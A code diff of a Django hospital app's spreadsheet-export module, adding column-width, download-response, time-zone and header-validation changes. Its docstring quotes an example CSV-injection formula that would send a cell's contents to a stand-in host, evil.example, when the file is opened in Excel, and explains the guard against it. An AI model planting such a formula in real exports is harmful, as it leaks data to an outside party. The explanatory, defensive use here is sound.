@@ -4,16 +4,25 @@ A title such as `=HYPERLINK("http://evil.example/?"&A2,"Click")` typed into the
 app would be a live formula in a naive export: Excel runs it when finance opens
 the file. Every text cell here is written as text, never as a formula (the
 OWASP rule for CSV injection: text starting with =, +, -, @, a tab or a
-carriage return). XLSX sheets get a bold frozen header row, column widths and an
-autofilter; dates and numbers stay dates and numbers.
+carriage return). XLSX sheets get a bold frozen header row, column widths (at least
+the header's, counting a Chinese character as two) and an autofilter; dates,
+date-times and numbers stay dates, date-times and numbers.
+
+An export takes the page's filters: the view builds the page's `ListFilterForm`
+(hospital.forms) and `Sorting` from the same query string, the template links it
+with `{% export_url "app:export_name" %}` (the page's query string without the
+page number), and the view answers with `xlsx_response(content, "name")`.
 """
 
 import csv
 import datetime as dt
 import io
+import unicodedata
 from collections.abc import Iterable, Sequence
 from decimal import Decimal
 
+from django.http import HttpResponse
+from django.utils import timezone
 from openpyxl import Workbook
 from openpyxl.cell import WriteOnlyCell
 from openpyxl.styles import Font
@@ -23,8 +32,21 @@ FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
 DEFAULT_WIDTH = 14
+MAX_WIDTH = 60
 MAX_SHEET_TITLE = 31  # Excel's limit
 NUMBER_TYPES = (int, float, Decimal)
+
+
+def display_width(text: str) -> int:
+    """Columns a text takes in a spreadsheet: wide (Chinese) characters count twice."""
+    return sum(2 if unicodedata.east_asian_width(char) in "WF" else 1 for char in text)
+
+
+def xlsx_response(content: bytes, name: str) -> HttpResponse:
+    """A download of an XLSX workbook named `<name>-<today>.xlsx`."""
+    response = HttpResponse(content, content_type=XLSX_CONTENT_TYPE)
+    response["Content-Disposition"] = f'attachment; filename="{name}-{timezone.localdate():%Y%m%d}.xlsx"'
+    return response
 
 
 def is_formula_like(text: str) -> bool:
@@ -36,7 +58,8 @@ def _plain(value):
     if value is None:
         return ""
     if isinstance(value, dt.datetime) and value.tzinfo is not None:
-        return value.replace(tzinfo=None)  # Excel has no time zones; callers pass local times
+        # Excel has no time zones: an aware moment is written in the hospital's local time
+        return timezone.localtime(value).replace(tzinfo=None)
     if isinstance(value, (*NUMBER_TYPES, dt.date, bool)):
         return value
     return str(value)
@@ -47,11 +70,14 @@ class XlsxSheet:
     workbook so that a year of rows does not sit in memory as cell objects."""
 
     def __init__(self, workbook: Workbook, title: str, headers: Sequence[str], widths: Sequence[int] = ()):
+        if not headers or not all(str(header).strip() for header in headers):
+            raise ValueError("Every column of an export sheet has a header.")
         self._sheet = workbook.create_sheet(str(title)[:MAX_SHEET_TITLE])
         self._columns = len(headers)
         self._rows = 0
-        for index in range(self._columns):
+        for index, header in enumerate(headers):
             width = widths[index] if index < len(widths) else DEFAULT_WIDTH
+            width = min(max(width, display_width(str(header)) + 2), MAX_WIDTH)
             self._sheet.column_dimensions[get_column_letter(index + 1)].width = width
         self._sheet.freeze_panes = "A2"
         bold = Font(bold=True)
